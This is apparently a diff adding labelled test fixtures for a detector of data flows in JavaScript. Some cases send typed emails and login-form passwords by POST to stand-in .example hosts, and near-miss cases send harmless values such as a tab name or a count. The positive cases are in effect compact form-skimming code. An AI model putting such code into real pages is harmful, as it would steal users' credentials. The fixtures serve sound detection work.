@@ -103,3 +103,43 @@ navigator.sendBeacon('https://nwe.fr17.example/n', String(log.more.count));
   current = window.injector;
   current.run(Page);
 })();
+
+//# angular-model-of-a-field
+// flow: email > amf.fr17.example via fetch
+(function () {
+  class Page { constructor() { this.email = ''; } go() { fetch('https://amf.fr17.example/in', { method: 'POST', body: this.email }); } static ɵfac = (t) => new (t || Page)(); static ɵcmp = d({ type: Page, template: function (rf, ctx) { if (rf & 1) { l('ngModelChange', function ($event) { return ctx.email = $event; }); l('click', function () { return ctx.go(); }); } } }); }
+  function d(of) { return of; }
+  function l(name, fn) { window.listeners.push([name, fn]); }
+  window.start(Page);
+})();
+
+//# near-angular-other-event
+// no flow
+// why: what the event says is which tab was chosen, not what was typed
+(function () {
+  class Page { constructor() { this.tab = ''; } go() { fetch('https://nae.fr17.example/in', { method: 'POST', body: this.tab }); } static ɵfac = (t) => new (t || Page)(); static ɵcmp = d({ type: Page, template: function (rf, ctx) { if (rf & 1) { l('tabChange', function ($event) { return ctx.tab = $event; }); l('click', function () { return ctx.go(); }); } } }); }
+  function d(of) { return of; }
+  function l(name, fn) { window.listeners.push([name, fn]); }
+  window.start(Page);
+})();
+
+//# form-library-by-other-names
+// flow: email > flo.fr17.example via fetch
+// flow: password > flo.fr17.example via fetch
+(function (react, forms) {
+  function Login() {
+    const { register: e, handleSubmit: t } = forms.useForm();
+    return react.createElement('form', { onSubmit: t((d) => fetch('https://flo.fr17.example/in', { method: 'POST', body: JSON.stringify(d) })) },
+      react.createElement('input', { type: 'email', ...e('email') }), react.createElement('input', { type: 'password', ...e('password') }));
+  }
+  window.show(Login);
+})(window.React, window.forms);
+
+//# near-form-library-other-names
+// no flow
+// why: it is no form whose parts are registered here, and what is handed on is a number
+(function (log) {
+  const { registered: e, handled: t } = log.use();
+  t((d) => fetch('https://nfl.fr17.example/in', { method: 'POST', body: String(d.count) }));
+  e('email');
+})(window.log);
